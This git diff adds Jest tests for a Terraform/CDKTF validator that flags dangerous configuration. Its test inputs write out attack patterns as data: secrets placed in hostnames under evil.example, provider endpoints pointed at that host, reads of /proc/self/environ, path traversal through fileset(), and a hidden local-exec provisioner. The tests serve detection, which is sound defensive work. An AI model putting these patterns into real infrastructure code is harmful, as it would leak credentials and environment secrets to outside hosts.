@@ -1,5 +1,10 @@
+import { existsSync, readdirSync, readFileSync } from 'node:fs';
+import path from 'node:path';
+
 import { expect, test } from '@jest/globals';
 
+import { isPointing } from '../../../terrace/delivery/judgement/providers';
+import { projectRoot } from '../../_helpers/project-root';
 import { judgeUnit } from '../../../terrace/delivery/judgement/judge-unit';
 import { network, reads, service, shopJson, shopModel, type ShopUnit } from '../../_helpers/shop-tree';
 
@@ -29,7 +34,10 @@ test('units as a synthesis writes them may run', () => {
   }
   const harmless = {
     '//': { metadata: { backend: 's3' } },
-    resource: { aws_lambda_function: { a: { '//': { metadata: { path: 'a/b' } }, filename: './assets/a.zip' } } },
+    resource: {
+      aws_s3_object: { a: { source: '${try(var.code.path, "assets/a.zip")}' } },
+      aws_lambda_function: { a: { '//': { metadata: { path: 'a/b' } }, filename: './assets/a.zip' } },
+    },
     data: { aws_s3_object: { code: { bucket: '${aws_s3_bucket.code.id}', key: 'code.zip' } } },
     locals: {
       zip: '${filebase64("${path.module}/assets/a.zip")}',
@@ -42,6 +50,7 @@ test('units as a synthesis writes them may run', () => {
       azurerm: { features: [{}], resource_provider_registrations: 'none' },
     },
     module: { own: { source: './modules/own' } },
+    variable: { code: { default: null } },
   };
   expect(found(harmless, { 'assets/a.zip': 'zip', 'modules/own/main.tf.json': '{"locals":{"a":1}}' })).toEqual([]);
 });
@@ -186,6 +195,66 @@ test.each<[string, object, RegExp]>([
     { provider: { github: { token: '${data.aws_ssm_parameter.t.value}' } } },
     /provider\.github\.token comes from data\.aws_ssm_parameter/,
   ],
+  [
+    'a token from a data source through a local',
+    { locals: { t: '${trimspace(data.aws_ssm_parameter.t.value)}' }, provider: { github: { token: '${local.t}' } } },
+    /provider\.github\.token comes from data\.aws_ssm_parameter\.t\.value/,
+  ],
+  [
+    'a token from a data source through a resource',
+    {
+      resource: { terraform_data: { t: { input: '${data.aws_ssm_parameter.t.value}' } } },
+      provider: { github: { token: '${terraform_data.t.output}' } },
+    },
+    /provider\.github\.token comes from data\.aws_ssm_parameter\.t\.value/,
+  ],
+  [
+    'a state in a list, which no plan is bound to',
+    { data: [{ terraform_remote_state: [{ x: { backend: 's3', config: { bucket: 'b', key: 'k', region: 'r' } } }] }] },
+    /data\.terraform_remote_state\.x is written as a list/,
+  ],
+  [
+    'a reference to a state with a space within',
+    {
+      data: { terraform_remote_state: { x: { backend: 's3', config: { bucket: 'b', key: 'k', region: 'r' } } } },
+      resource: { terraform_data: { a: { input: '${ data . terraform_remote_state.x.outputs.id }' } } },
+    },
+    /a reference to a state is written with something within it/,
+  ],
+  [
+    'a region that makes the address another machine',
+    { provider: { pagerduty: { service_region: 'evil.example/x?' } } },
+    /provider\.pagerduty\.service_region points to/,
+  ],
+  ['an address that overrides', { provider: { pagerduty: { api_url_override: 'https://evil.example' } } }, /api_url_override points to/],
+  [
+    'a secret in the address of a chart',
+    { resource: { helm_release: { a: { chart: 'x', repository: 'https://${var.password}.evil.example' } } } },
+    /helm_release\.a\.repository is computed/,
+  ],
+  [
+    'a secret in an address that is asked for its certificate',
+    { data: { tls_certificate: { a: { url: 'https://${var.password}.evil.example' } } } },
+    /tls_certificate\.a\.url is computed/,
+  ],
+  ['names of files of the machine', input('${jsonencode(fileset("assets", "../../**"))}'), /fileset\(\) looks for/],
+  [
+    'a file that a variable of the source names',
+    {
+      variable: { code: { default: { path: '/proc/self/environ' } } },
+      resource: { cloudflare_workers_script: { a: { content_file: '${try(var.code.path, "a.mjs")}' } } },
+    },
+    /content_file names/,
+  ],
+  [
+    'another file where a variable is not given',
+    {
+      variable: { code: { default: null } },
+      resource: { aws_s3_object: { a: { source: '${try(var.code.path, "/proc/self/environ")}' } } },
+    },
+    /source names/,
+  ],
+  ['a template that is no file of the unit', input('${templatefile("T.tpl", {})}'), /templatefile\(\) reads T\.tpl, which is no file/],
   ['a module of a registry', { module: { m: { source: 'terraform-aws-modules/vpc/aws' } } }, /module\.m comes from/],
   ['a module outside the folder', { module: { m: { source: './../../other' } } }, /outside the unit's folder/],
   [
@@ -244,13 +313,57 @@ test.each([
   '.terraform/terraform.tfstate',
   '.home/.terraformrc',
 ])('a file that terraform takes as its own is found: %s', (name) => {
-  expect(found({}, { [name]: '' })).toHaveLength(1);
+  expect(found({}, { [name]: '' })[0]).toMatch(/takes as its own|would be read beside/);
+});
+
+test('two files that are one where capitals do not count are refused: the second would be written over the one that was judged', () => {
+  expect(found({}, { 'm/a.json': '{}', 'm/A.json': '{}' })).toEqual(['m/A.json and m/a.json are one file where capitals do not count']);
+});
+
+test('every argument of a provider that says where requests go is judged; what is none is known by name', () => {
+  // What it may hold beside: what it signs in with, ids, settings of itself, and what lies in blocks that are judged whole (`exec`, `assume_role`).
+  const harmless = new Set(
+    `access_key access_token ado_pipeline_service_connection_id alias allowed_account_ids api_key api_token api_user_service_key api_version
+    args audience auxiliary_tenant_ids billing_project client_certificate client_certificate_password client_id client_key client_secret
+    cluster_ca_certificate config_context config_context_auth_info config_context_cluster default_labels duration email env external_id
+    forbidden_account_ids helm_driver id identity_token ignore_annotations ignore_labels installation_id key_prefixes keys msi_api_version
+    oidc_request_token oidc_token organization owner partner_id password pd_client_id pd_client_secret policy policy_arns project
+    request_reason request_timeout resource_provider_registrations resource_providers_to_register retry_mode scopes secret_key send_after
+    service_account_email session_name skip_metadata_api_check source_identity subscription_id tag_policy_compliance tags tenant_id
+    terraform_attribution_label_addition_strategy tls_server_name token transitive_tag_keys user_agent_operator_suffix user_token username
+    web_identity_token`.split(/\s+/),
+  );
+  const folder = path.join(projectRoot, 'node_modules', '@cdktf');
+  const bindings = readdirSync(folder)
+    .map((name) => path.join(folder, name, 'lib', 'provider', 'index.d.ts'))
+    .filter((file) => existsSync(file));
+  expect(bindings.length).toBeGreaterThan(10);
+  const others = bindings.flatMap((file) => argumentsIn(file).filter((name) => !isPointing(name)));
+  expect([...new Set(others)].filter((name) => !harmless.has(name))).toEqual([]);
 });
 
 test('a module of JSON is judged as the unit is, and HCL that nobody read is refused', () => {
   const call = { module: { m: { source: './m' } } };
   expect(found(call, { 'm/main.tf': '' })).toEqual(['m/main.tf cannot be read: HCL that was not read']);
   expect(found(call, { 'm/main.tf.json': '{"data":{"http":{"x":{"url":"https://evil.example"}}}}' }).join()).toMatch(/fetches an address/);
+});
+
+test('a module is judged with its arguments, reads no state, and is judged although a template names its file as well', () => {
+  const call = { module: { m: { source: './m', token: '${data.aws_ssm_parameter.t.value}' } } };
+  const inner = { variable: { token: {} }, locals: { t: '${var.token}' }, provider: { github: { token: '${local.t}' } } };
+  expect(found(call, { 'm/main.tf.json': JSON.stringify(inner) }).join()).toMatch(
+    /provider\.github\.token comes from data\.aws_ssm_parameter/,
+  );
+  const state = { data: { terraform_remote_state: { x: { backend: 's3', config: { bucket: 'b', key: 'k', region: 'r' } } } } };
+  expect(found({ module: { m: { source: './m' } } }, { 'm/main.tf.json': JSON.stringify(state) }).join()).toMatch(
+    /reads a state in a module/,
+  );
+  const hidden = {
+    'm/a.tf.json': JSON.stringify({ locals: { a: '${templatefile("n/main.tf.json", {})}' } }),
+    'm/b.tf.json': JSON.stringify({ module: { n: { source: './n' } } }),
+    'm/n/main.tf.json': JSON.stringify({ resource: { terraform_data: { a: { provisioner: [{ 'local-exec': { command: 'id' } }] } } } }),
+  };
+  expect(found({ module: { m: { source: './m' } } }, hidden).join()).toMatch(/terraform_data\.a runs a program/);
 });
 
 test('an address from the state of a unit of the same environment is one of its own', () => {
@@ -266,6 +379,43 @@ test('an address from the state of a unit of the same environment is one of its 
   expect(at('dev/eu-central-1/network')).toEqual([]);
   expect(at('production/eu-central-1/network').join()).toMatch(/provider\.kubernetes\.host points to/);
 });
+
+test('an address is that of a state only where nothing else decides which machine it names', () => {
+  const own = 'data.terraform_remote_state.network_vpc.outputs.subnet_id';
+  const found = (host: string, more: object = {}): readonly string[] => {
+    const unit: ShopUnit = { ...service(), json: { provider: { kubernetes: { host } }, ...more } };
+    const model = shopModel([network(), unit]).units.find((one) => one.path.endsWith('compute/api'));
+    if (model === undefined) throw new Error('no unit');
+    return judgeUnit({
+      unit: model,
+      files: new Map([['main.tf.json', Buffer.from(JSON.stringify(shopJson(unit)))]]),
+      provisioners: false,
+    });
+  };
+  for (const host of [`\${${own}}`, `https://\${${own}}`, `https://\${${own}}:6443/api`, `\${sensitive(${own})}`])
+    expect(found(host)).toEqual([]);
+  expect(found('https://${local.host}', { locals: { host: `\${${own}}` } })).toEqual([]);
+  for (const host of [
+    `https://evil.example/\${${own}}`,
+    `https://\${${own}}.evil.example`,
+    `https://\${${own}}@evil.example`,
+    `https://\${${own}}:1@evil.example`,
+    `\${true ? "https://evil.example" : ${own}}`,
+    `\${replace(${own}, "/.*/", "evil.example")}`,
+    `\${"https://evil.example/\${${own}}"}`,
+  ])
+    expect([host, found(host).length]).toEqual([host, 1]);
+  expect(found('https://${local.host}', { locals: { host: `evil.example/\${${own}}` } })).toHaveLength(1);
+});
+
+/** Names of the arguments of a provider's block that hold texts, from its bindings. */
+function argumentsIn(file: string): readonly string[] {
+  const text = readFileSync(file, 'utf8').replace(/export interface AwsProviderEndpoints \{[^]*?\n\}/, '');
+  const names = [...text.matchAll(/^ +readonly (\w+)\??: (?:string|string\[\]|\{)/gm)].map(([, name = '']) =>
+    name.replaceAll(/[A-Z]/g, (capital) => `_${capital.toLowerCase()}`),
+  );
+  return [...new Set(names)].toSorted();
+}
 
 function backend(): { readonly backend: { readonly s3: object } } {
   return (shopJson(described) as { readonly terraform: { readonly backend: { readonly s3: object } } }).terraform;
